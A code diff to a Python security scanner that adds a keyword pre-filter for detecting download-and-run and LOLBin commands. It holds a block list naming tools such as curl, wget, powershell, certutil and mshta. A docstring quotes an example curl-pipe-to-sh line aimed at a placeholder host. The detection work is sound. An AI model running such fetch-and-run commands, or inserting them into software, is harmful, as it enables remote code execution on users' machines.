@@ -6,7 +6,7 @@ import ast
 import re
 from collections.abc import Iterator
 
-from douane.analysis.context import FileContext, PyContext
+from douane.analysis.context import FileContext, PyContext, Words
 from douane.analysis.interface import FileType, Hit, Tag, all_of, anchored
 from douane.analysis.pyapi import (
     PROCESS_ANY,
@@ -558,6 +558,37 @@ def _logical_lines(text: str) -> Iterator[tuple[int, str]]:
         yield start, buf
 
 
+# a word each of FETCH_TO_SHELL, PS_ENCODED, PS_CRADLE and the LOLBin patterns needs, lower-case
+_COMMAND_WORDS = Words((b"curl", b"wget", b"powershell", b"pwsh", b"downloadstring", b"downloaddata",
+                        b"invoke-webrequest", b"invoke-restmethod", b"net.webclient", b"downloadfile",
+                        b"start-bitstransfer", b"certutil", b"mshta", b"bitsadmin", b"rundll32",
+                        b"regsvr32", b"wmic", b"msiexec"))  # fmt: skip
+_SHORT_WORDS = (b"iwr", b"irm")  # as whole words (`confirm` is no PowerShell)
+# what `re.IGNORECASE` also takes for an ASCII letter: İ ı ſ K
+_CASE_FOLDS = (b"\xc4\xb0", b"\xc4\xb1", b"\xc5\xbf", b"\xe2\x84\xaa")
+_WORD_BYTES = frozenset(b"abcdefghijklmnopqrstuvwxyz0123456789_")
+
+
+def _may_fetch_or_lolbin(data: bytes) -> bool:
+    """Whether a command in ``data`` can match the download-and-run or LOLBin patterns: they
+    are case-insensitive, so a file spelling none of their words in any case cannot."""
+    if not data.isascii() and any(c in data for c in _CASE_FOLDS):
+        return True
+    low = data.lower()
+    if _COMMAND_WORDS.search(low):
+        return True
+    for word in _SHORT_WORDS:
+        i = low.find(word)
+        while i >= 0:
+            end = i + len(word)
+            if (i == 0 or low[i - 1] not in _WORD_BYTES) and (
+                end == len(low) or low[end] not in _WORD_BYTES
+            ):
+                return True
+            i = low.find(word, end)
+    return False
+
+
 _UNPARSED_SHELL = re.compile(
     r"\b(?:os\.system|os\.popen|subprocess\.\w+|Popen|call)\s*\(\s*[rbuf]?['\"]([^'\"\n]{4,400})",
 )
@@ -585,6 +616,8 @@ def unparsed_python_shell_download(ctx: FileContext) -> Iterator[Hit]:
 
     Example: `os.system("curl -s https://x.example.invalid/p | sh")` next to `print "done"`.
     """
+    if not _may_fetch_or_lolbin(ctx.member.data):
+        return
     for m in _UNPARSED_SHELL.finditer(ctx.text):
         cmd = m.group(1)
         if FETCH_TO_SHELL.search(cmd) or PS_ENCODED.search(cmd) or PS_CRADLE.search(cmd):
